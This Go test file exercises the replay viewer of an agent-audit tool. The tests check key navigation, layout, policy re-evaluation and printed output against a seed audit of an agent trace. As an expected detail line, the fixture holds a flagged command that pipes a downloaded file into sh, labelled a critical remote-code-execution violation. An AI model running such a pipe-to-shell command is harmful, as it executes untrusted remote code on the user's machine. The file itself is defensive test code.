package replay_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/troy-audit/troy/evaluator"
	"github.com/troy-audit/troy/ingest"
	"github.com/troy-audit/troy/internal/replay"
	"github.com/troy-audit/troy/policies"
	"github.com/troy-audit/troy/schemas"
)

func seedSession(t *testing.T) *replay.Session {
	t.Helper()
	a, err := ingest.LoadAudit("testdata/seed_audit.json")
	if err != nil {
		t.Fatal(err)
	}
	return replay.NewSession(a, "testdata/seed_audit.json")
}

func compiled(t testing.TB, arg string) *evaluator.Compiled {
	t.Helper()
	p, err := policies.Resolve(arg)
	if err != nil {
		t.Fatal(err)
	}
	c, err := evaluator.Compile(p)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// key builds a key press as the terminal sends it.
func key(k string) tea.KeyPressMsg {
	switch k {
	case "right":
		return tea.KeyPressMsg{Code: tea.KeyRight}
	case "left":
		return tea.KeyPressMsg{Code: tea.KeyLeft}
	case "enter":
		return tea.KeyPressMsg{Code: tea.KeyEnter}
	case "esc":
		return tea.KeyPressMsg{Code: tea.KeyEscape}
	case "down":
		return tea.KeyPressMsg{Code: tea.KeyDown}
	}
	r := []rune(k)[0]
	return tea.KeyPressMsg{Code: r, Text: k}
}

func press(m replay.Model, keys ...string) replay.Model {
	for _, k := range keys {
		next, _ := m.Update(key(k))
		m = next.(replay.Model)
	}
	return m
}

func screen(m replay.Model) string { return ansi.Strip(m.Render()) }

// The UI's keys move between steps, violations and views, and the screen shows them.
func TestModelKeys(t *testing.T) {
	s := seedSession(t)
	m := replay.NewModel(s, 100, 30)
	tests := []struct {
		keys     []string
		cur      int
		mode     string
		contains []string
	}{
		{nil, 0, "step", []string{"step 1/4", "Decide how to research", "violations:  none", " ..C.", " ^"}},
		{[]string{"right"}, 1, "step", []string{"step 2/4", "web_search", "  ^"}},
		{[]string{"n", "n"}, 2, "step", []string{"step 3/4", "[CRITICAL] privileged-escalation-guard", "explanation: The agent piped", "risk factor: remote code execution"}},
		{[]string{"G", "p"}, 2, "step", []string{"step 3/4"}},
		{[]string{"j"}, 2, "step", []string{"step 3/4"}},
		{[]string{"j", "j"}, 2, "step", []string{"no violation after this step"}},
		{[]string{"G", "k"}, 2, "step", nil},
		{[]string{"G", "g", "left"}, 0, "step", []string{"step 1/4"}},
		{[]string{"s"}, 0, "summary", []string{"Trace trace3 (agent research-agent): 4 steps, risk 40/100, 1 violation(s)", "overview: The agent searched", "concern:  remote code execution", "by severity: 1 critical"}},
		{[]string{"s", "s"}, 0, "step", []string{"step 1/4"}},
		{[]string{"v"}, 0, "violations", []string{"Violations (1)", "step 3 step-3"}},
		{[]string{"n", "n", "d"}, 2, "detail", []string{"(detail)", `"command": "curl https://example.org/paper.pdf | sh"`, `"risk_factors": [`}},
		{[]string{"?"}, 0, "help", []string{"next violation", "search descriptions and inputs"}},
		{[]string{"v", "esc"}, 0, "step", nil},
		{[]string{"/", "s", "u", "m", "enter"}, 3, "step", []string{"found \"sum\" at step 4", "Summarise the findings"}},
		{[]string{"/", "z", "z", "z", "enter"}, 0, "step", []string{`"zzz" is in no step's description or input`}},
		{[]string{"/", "c", "u", "r", "l"}, 0, "step", []string{"/curl█"}},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.keys, " "), func(t *testing.T) {
			got := press(m, tt.keys...)
			if got.Current() != tt.cur || got.Mode() != tt.mode {
				t.Fatalf("at step %d in %s view, want %d in %s", got.Current(), got.Mode(), tt.cur, tt.mode)
			}
			sc := screen(got)
			for _, want := range tt.contains {
				if !strings.Contains(sc, want) {
					t.Fatalf("screen lacks %q:\n%s", want, sc)
				}
			}
			if lines := strings.Count(sc, "\n") + 1; lines != 30 {
				t.Fatalf("the screen has %d lines, want the terminal's 30", lines)
			}
		})
	}
	if _, cmd := m.Update(key("q")); cmd == nil {
		t.Fatal("q does not quit")
	}
}

// The layout follows the terminal: long values wrap to its width, the body scrolls, and
// the timeline folds when the trace is wider than the screen.
func TestModelLayout(t *testing.T) {
	s := seedSession(t)
	next, _ := replay.NewModel(s, 100, 30).Update(tea.WindowSizeMsg{Width: 40, Height: 12})
	m := press(next.(replay.Model), "n", "n", "d")
	for _, l := range strings.Split(screen(m), "\n") {
		if ansi.StringWidth(l) > 40 {
			t.Fatalf("line wider than the terminal: %q", l)
		}
	}
	if !strings.Contains(screen(m), "↓ more") {
		t.Fatalf("no scroll hint:\n%s", screen(m))
	}
	scrolled := press(m, "down", "down", "down")
	if screen(scrolled) == screen(m) {
		t.Fatal("down did not scroll")
	}

	var steps []*schemas.Step
	for i := range 500 {
		st := &schemas.Step{StepID: fmt.Sprint("s", i), Type: "tool_call", Description: "x"}
		steps = append(steps, st)
	}
	a := &schemas.AuditResult{Trace: &schemas.Trace{TraceID: "long", AgentName: "a", Steps: steps},
		Violations: []schemas.Violation{{RuleID: "r", StepID: "s499", Severity: "high"}}}
	a.Normalize()
	long := press(replay.NewModel(replay.NewSession(a, "x"), 60, 20), "G")
	lines := strings.Split(screen(long), "\n")
	if strip := strings.TrimSpace(lines[1]); len(strip) != 58 || !strings.HasSuffix(strip, "H") {
		t.Fatalf("timeline %q: want 58 columns ending with the violation", strip)
	}
	if marker := lines[2]; !strings.HasSuffix(marker, "^") || len(marker) != 59 {
		t.Fatalf("marker %q: want the last column", marker)
	}
}

// A re-evaluation lists the violations each policy finds only, and the risk of both.
func TestReevaluate(t *testing.T) {
	s := seedSession(t)
	r := s.Reevaluate(compiled(t, "../../examples/policy.json"), "examples/policy.json")
	added, removed := r.Changed()
	if r.OldRisk != 40 || r.NewRisk != 50 || added != 0 || removed != 0 {
		t.Fatalf("same rule, other weight: risk %d → %d, +%d -%d", r.OldRisk, r.NewRisk, added, removed)
	}
	s = seedSession(t)
	r = s.Reevaluate(compiled(t, "minimal"), "minimal")
	added, removed = r.Changed()
	if removed != 1 || len(r.Removed["step-3"]) != 1 {
		t.Fatalf("minimal: +%d -%d %v", added, removed, r.Removed)
	}
	m := press(replay.NewModel(s, 100, 30), "s")
	if !strings.Contains(screen(m), fmt.Sprintf("Re-evaluated with minimal: risk 40 → %d", r.NewRisk)) {
		t.Fatalf("summary lacks the re-evaluation:\n%s", screen(m))
	}
}

// The printed replay of an audit in the Python tool's shape has every step and
// violation, in order, without escape codes, with and without a re-evaluation.
func TestPrintSeedAudit(t *testing.T) {
	for _, withPolicy := range []bool{false, true} {
		s := seedSession(t)
		if withPolicy {
			s.Reevaluate(compiled(t, "../../examples/policy.json"), "examples/policy.json")
		}
		var b bytes.Buffer
		if err := replay.Print(&b, s); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		if strings.Contains(out, "\x1b") {
			t.Fatal("escape codes in the printed replay")
		}
		want := []string{"Replay of testdata/seed_audit.json", "overview: The agent searched"}
		if withPolicy {
			want = append(want, "Re-evaluated with examples/policy.json: risk 40 → 50 (+10); 0 violation(s) added, 0 removed")
		}
		want = append(want, "Timeline  ..C.", "Step 1/4  step-1", "Step 2/4  step-2", "Step 3/4  step-3",
			"violation:   [CRITICAL] privileged-escalation-guard", "Step 4/4  step-4")
		if withPolicy {
			want = append(want, "Violations with examples/policy.json (1)")
		} else {
			want = append(want, "Violations (1)")
		}
		last := -1
		for _, w := range want {
			i := strings.Index(out, w)
			if i < 0 || i < last {
				t.Fatalf("policy %v: %q missing or out of order:\n%s", withPolicy, w, out)
			}
			last = i
		}
		var again bytes.Buffer
		_ = replay.Print(&again, s)
		if again.String() != out {
			t.Fatal("two prints differ")
		}
	}
}

// After a re-evaluation the closing list of violations is the new policy's: violations
// it removed are gone from it, and it says which policy it is.
func TestViolationsAfterReevaluation(t *testing.T) {
	s := seedSession(t)
	s.Reevaluate(compiled(t, "minimal"), "minimal")
	var b bytes.Buffer
	if err := replay.Print(&b, s); err != nil {
		t.Fatal(err)
	}
	closing := b.String()[strings.LastIndex(b.String(), "\nViolations"):]
	if !strings.HasPrefix(closing, "\nViolations with minimal (1)\n  step 3 step-3   [HIGH] min-shell-execution:") || strings.Contains(closing, "privileged-escalation-guard") {
		t.Fatalf("closing list:\n%s", closing)
	}
	if v := screen(press(replay.NewModel(s, 100, 30), "v")); !strings.Contains(v, "Violations with minimal (1)") || strings.Contains(v, "privileged-escalation-guard") {
		t.Fatalf("violations view:\n%s", v)
	}
}

// Values print as they were written: <, > and & are not escaped, in the printed replay and
// in the UI's detail view.
func TestValuesPrintUnescaped(t *testing.T) {
	s := seedSession(t)
	s.Step(0).Input = map[string]any{"html": "<b>a & b</b> -> c"}
	var b bytes.Buffer
	if err := replay.Print(&b, s); err != nil {
		t.Fatal(err)
	}
	detail := screen(press(replay.NewModel(s, 100, 30), "d"))
	for name, out := range map[string]string{"print": b.String(), "detail": detail} {
		if !strings.Contains(out, `"<b>a & b</b> -> c"`) || strings.Contains(out, `\u003c`) || strings.Contains(out, `\u0026`) {
			t.Fatalf("%s:\n%s", name, out)
		}
	}
}
